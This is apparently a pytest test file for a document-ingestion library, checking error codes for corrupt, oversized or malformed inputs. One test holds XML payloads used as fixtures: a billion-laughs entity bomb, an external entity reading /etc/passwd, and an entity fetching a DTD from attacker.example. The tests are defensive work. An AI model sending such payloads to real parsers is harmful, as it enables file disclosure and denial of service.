"""Bad input: every case gives a one-line TocsinError naming the file, with the right code."""
from __future__ import annotations

import gzip
import json
import random

import pytest
from ingest_fixtures import PARAS, html_page, read, rss, warc_bytes, write

from tocsin.ingest import Limits


def _only_error(res, code, name):
    errs = res.all_errors
    assert errs, f"expected {code}, got docs {res.docs}"
    err = errs[-1]
    assert err.code == code, str(err)
    assert name in str(err) and "\n" not in str(err)
    return err


def test_binary_file(tmp_path):
    rnd = random.Random(1)
    data = bytes(rnd.randrange(256) for _ in range(5000)) + b"\x00" * 50
    _only_error(read(write(tmp_path, "photo.txt", data)), "E101", "photo.txt")


@pytest.mark.parametrize("data", [b"", b"  \n\r\n\t "])
def test_empty(tmp_path, data):
    _only_error(read(write(tmp_path, "empty.txt", data)), "E102", "empty.txt")


def test_gzip_to_nothing(tmp_path):
    _only_error(read(write(tmp_path, "nothing.txt.gz", b"", gz=True)), "E102", "nothing.txt.gz")


def test_truncated_and_corrupt_gzip(tmp_path):
    blob = gzip.compress(("\n\n".join(PARAS) * 20).encode())
    _only_error(read(write(tmp_path, "cut.txt.gz", blob[:-12])), "E104", "cut.txt.gz")
    bad = blob[:10] + bytes(b ^ 0x5A for b in blob[10:40]) + blob[40:]
    _only_error(read(write(tmp_path, "bad.txt.gz", bad)), "E104", "bad.txt.gz")


def test_truncated_warc_keeps_records_before_damage(tmp_path):
    pages = [(f"https://news.example.org/{i}", html_page(f"Headline {i}").encode()) for i in range(3)]
    plain = warc_bytes(pages, gz=False, extra=False)
    res = read(write(tmp_path, "cut.warc", plain[: len(plain) - 300]))
    assert [d.url for d in res.docs] == ["https://news.example.org/0", "https://news.example.org/1"]
    _only_error(res, "E109", "cut.warc")
    zipped = warc_bytes(pages, gz=True, extra=False)
    res = read(write(tmp_path, "cut.warc.gz", zipped[: len(zipped) - 300]))
    assert [d.url for d in res.docs] == ["https://news.example.org/0", "https://news.example.org/1"]
    _only_error(res, "E104", "cut.warc.gz")


def test_garbage_warc(tmp_path):
    _only_error(read(write(tmp_path, "x.warc", b"WARC/1.0\r\nthis is not a header block\r\n\r\n" * 3)),
                "E109", "x.warc")


def test_broken_utf16(tmp_path):
    data = b"\xff\xfe" + b"\x00\xd8" * 200  # lone surrogates throughout
    _only_error(read(write(tmp_path, "u16.txt", data)), "E105", "u16.txt")


@pytest.mark.parametrize("page", [
    "<html><head><title>Nothing here</title></head><body></body></html>",
    "<html><body><div><div><span></span></div></div></body></html>",
])
def test_html_without_text(tmp_path, page):
    _only_error(read(write(tmp_path, "blank.html", page)), "E106", "blank.html")


def test_deeply_nested_markup_does_not_crash(tmp_path):
    page = "<html><body>" + "<div>" * 100_000 + "<p>" + PARAS[0] + "</p>" + "</div>" * 100_000 + "</body></html>"
    res = read(write(tmp_path, "deep.html", page))
    assert res.docs or _only_error(res, "E106", "deep.html")


def test_malformed_feed(tmp_path):
    broken = '<?xml version="1.0"?><rss version="2.0"><channel><title>Wire</title><item><title>x</ti'
    _only_error(read(write(tmp_path, "broken.xml", broken)), "E107", "broken.xml")
    not_feed = '<?xml version="1.0"?><urlset><url><loc>https://x.example/</loc></url></urlset>'
    _only_error(read(write(tmp_path, "sitemap.xml", not_feed)), "E107", "sitemap.xml")


def test_bozo_feed_with_items_keeps_items(tmp_path):
    feed = rss([{"title": "Kept", "html": "<p>Body &amp; more</p>"}]).replace("</channel></rss>", "<junk>&nbsp;")
    res = read(write(tmp_path, "bozo.xml", feed))
    assert [d.meta["title"] for d in res.docs] == ["Kept"] and not res.all_errors


_LOL = "".join(f'<!ENTITY l{i} "{("&l%d;" % (i - 1)) * 10}">' for i in range(1, 10))


@pytest.mark.parametrize("doctype", [
    f'<!DOCTYPE rss [<!ENTITY l0 "lol">{_LOL}]>',  # billion laughs
    '<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',  # external entity
    '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>',
])
def test_entity_attacks_refused(tmp_path, doctype):
    feed = f'<?xml version="1.0"?>{doctype}<rss version="2.0"><channel><title>&l9;</title>' \
           f"<item><title>t</title><description>&l9;</description></item></channel></rss>"
    _only_error(read(write(tmp_path, "lol.xml", feed)), "E107", "lol.xml")


def test_billion_laughs_in_html_is_not_expanded(tmp_path):
    page = f'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY l0 "lol">{_LOL}]><html><body><p>&l9;</p>' \
           f"<p>{PARAS[0]}</p></body></html>"
    res = read(write(tmp_path, "lol.html", page))
    assert all(len(d.text) < 10_000 for d in res.docs)


def test_malformed_json_line(tmp_path):
    res = read(write(tmp_path, "bad.jsonl", '{"text": "ok"}\n{"text": \n' + "[" * 100_000 + "\n"))
    assert [d.text for d in res.docs] == ["ok"]
    assert [(e.code, e.line) for e in res.errors] == [("E108", 2), ("E108", 3)]
    assert all("bad.jsonl" in str(e) for e in res.errors)


def test_50mb_single_line(tmp_path):
    big = b"A" * 50_000_000
    err = _only_error(read(write(tmp_path, "oneline.txt", big)), "E111", "oneline.txt")
    assert err.line == 1
    line = json.dumps({"text": "x"}).encode()
    res = read(write(tmp_path, "big.jsonl", line + b"\n" + b'{"text": "' + big + b'"}\n' + line + b"\n"))
    assert len(res.docs) == 2 and [(e.code, e.line) for e in res.errors] == [("E111", 2)]


def test_too_large_and_zip_bomb(tmp_path):
    _only_error(read(write(tmp_path, "big.txt", "word " * 1000), Limits(max_file_bytes=1000)), "E103", "big.txt")
    bomb = write(tmp_path, "bomb.txt.gz", b"a" * 5_000_000, gz=True)
    _only_error(read(bomb, Limits(max_decompressed_bytes=1_000_000)), "E103", "bomb.txt.gz")
    jl = write(tmp_path, "bomb.jsonl.gz", b'{"text": "a"}\n' * 400_000, gz=True)
    _only_error(read(jl, Limits(max_decompressed_bytes=1_000_000)), "E103", "bomb.jsonl.gz")


def test_too_many_records(tmp_path):
    res = read(write(tmp_path, "many.jsonl", '{"text": "a"}\n' * 5), Limits(max_records=2))
    assert len(res.docs) == 2
    _only_error(res, "E103", "many.jsonl")


def test_time_budget(tmp_path):
    _only_error(read(write(tmp_path, "slow.txt", "text\n"), Limits(max_seconds_per_file=0)), "E112", "slow.txt")


def test_unsupported(tmp_path):
    import io
    import zipfile

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("a.txt", "hello")
    _only_error(read(write(tmp_path, "a.zip", buf.getvalue())), "E110", "a.zip")
    _only_error(read(write(tmp_path, "two.txt.gz", gzip.compress(b"hello"), gz=True)), "E110", "two.txt.gz")


def test_gzip_cut_right_after_header(tmp_path):
    blob = gzip.compress(b"some text\n")
    _only_error(read(write(tmp_path, "hdr.txt.gz", blob[:12])), "E104", "hdr.txt.gz")
